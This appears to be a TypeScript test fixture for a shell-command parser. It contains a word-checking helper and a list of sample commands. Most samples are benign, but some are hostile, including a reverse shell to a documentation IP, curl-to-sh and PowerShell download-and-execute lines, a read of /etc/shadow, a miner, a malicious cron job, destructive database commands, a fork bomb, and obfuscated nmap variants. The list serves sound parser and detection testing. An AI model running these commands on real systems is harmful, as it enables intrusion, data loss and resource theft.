// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of a shell

import type { Action } from '../../src/actions/index.ts';

/** What an action holds, as far as rules may take words from it; what the parser adds of its own is left out. */
function fieldsOf(action: Action): (string | undefined)[] {
  switch (action.kind) {
    case 'process': {
      const { environment = {}, user } = action;
      return [
        action.image.replace(/^\/usr\/bin\//, ''),
        ...action.argv,
        action.commandLine,
        action.directory,
        user === 'root' ? undefined : user,
        ...Object.entries(environment).flat(),
        action.remote,
        action.input,
        action.downloaded,
        action.connected,
      ];
    }
    case 'file':
      return [action.path, action.target, action.content, action.mode];
    case 'network':
      return [action.host, action.ip, action.url, action.payload];
    case 'dns':
      return [action.query];
    case 'code':
      return [action.name, action.value, action.file, action.downloaded];
  }
}

/** The few words that the parser adds: see `hide.ts`. */
const OWN = new Set(
  `0 root unknown index html tunnel ngrok com argotunnel localtunnel me ssh tmate io sshx gs thc org global rel tunnels
  api visualstudio`.split(/\s+/),
);

/** Words of actions that do not stand in the text from which they were read. */
export function newWords(text: string, actions: readonly Action[]): string[] {
  const squeezed = text.replace(/['"`\\]/g, '').toLowerCase();
  const output: string[] = [];
  for (const action of actions) {
    // a shell that code hands a text to which is not known
    if (action.kind === 'process' && action.image === '/bin/sh' && !squeezed.includes('/bin/sh')) continue;
    for (const field of fieldsOf(action)) {
      for (const word of field?.toLowerCase().match(/[a-z0-9_]+/g) ?? [])
        if (!squeezed.includes(word) && !OWN.has(word)) output.push(`${word} in ${action.kind} ${field}`);
    }
  }
  return output;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Commands of many kinds, plain ones and such as hide what they do. */
export const commandTexts: readonly string[] = [
  '/b?n/c?t /e?c/sh?dow',
  '/???/c?rl http://203.0.113.5/x | /b?n/sh',
  'sh -c "/usr/b?n/w?oami; /bin/l?"',
  'ls -la /tmp && cat README.md | head -20',
  'cd /srv/app; git pull --rebase; npm ci && npm test -- --watch=false',
  'sudo -u www-data tar czf /tmp/site.tgz -C /var/www html',
  "find . -name '*.py' -exec grep -n 'import os' {} +",
  'for i in {1..9}; do ping -c1 192.168.1.$i & done; wait',
  'curl -sSL -H "Authorization: Bearer $TOKEN" https://api.example/v1/items?x=1 -o /tmp/items.json',
  "ssh -p 2222 op@host.example 'systemctl restart app && journalctl -u app -n 50'",
  'docker run --rm -v "$PWD:/work" -w /work python:3.12 python -m pytest -q',
  'kubectl -n prod exec deploy/web -- sh -c "env | sort"',
  "cat > /etc/app.conf <<'E'\nlisten 8080\nroot /srv\nE",
  'x=$(date +%s); echo "started $x" >> log.txt',
  'scan() { nmap -p "$2" "$1"; }; scan 10.0.0.5 22,80',
  'A=nm; B=ap; $A$B -sS 10.0.0.5',
  'x=nma; "${x}p" y; ${x}q z',
  'c=nXmXap; ${c//X/} h',
  `echo ${base64('nmap -sS h')} | base64 -d | sh`,
  `bash -c "$(base64 -d <<< ${base64('nmap h')})"`,
  "printf '\\x6e\\x6d\\x61\\x70 h' | sh",
  'echo pamn | rev | sh; echo nXmap | tr -d X | sh',
  'n{ma,}p h; {nmap,-sS,h}; nm$(echo ap) h; nm`echo ap` h',
  'curl http://3221225985/ http://0xC0000201/ http://[::ffff:c000:201]/x',
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  'nohup ./miner -o pool.example:3333 -u w > /dev/null 2>&1 &',
  "echo '*/5 * * * * curl http://e.example/x | sh' | crontab -",
  "tmux new -d -s a 'nmap h'; tmux send-keys -t a 'ls' Enter; screen -dmS b top",
  'python3 -c \'import os; os.system("nm" + "ap h")\'',
  "perl -e 'system(\"nmap h\")'; ruby -e '`id`'; php -r 'exec(\"ls\");'; awk 'BEGIN { system(\"id\") }'",
  'import os, subprocess\nhost = "h"\nsubprocess.run(["nmap", host])\nos.system(f"ping {host}")\nopen("a", "w").write("b" * 3)',
  'import base64, os\nos.system(base64.b64decode("bm1hcCBo").decode())',
  'import requests\nr = requests.post("https://a.example/x", json={"k": [1, 2]})\nprint(r.text[:5])',
  '!nmap h\nx = 1\n%cd /srv\nfor a in range(3):\n    !echo {a}',
  'mysql -h db -e "DROP TABLE users; SELECT 1"; redis-cli -h r FLUSHALL',
  'powershell -c "iwr http://e.example/a.ps1 | iex"',
  'git -c core.pager="sh -c id" log; vim -c ":!id" f; tar cf a b --checkpoint-action=exec=id',
  'if [ -f a ]; then rm -rf ~/old; else echo no; fi; case $1 in a) id;; esac',
  "it's not closed (\nnmap h",
  ':(){ :|:& };:',
  '',
];
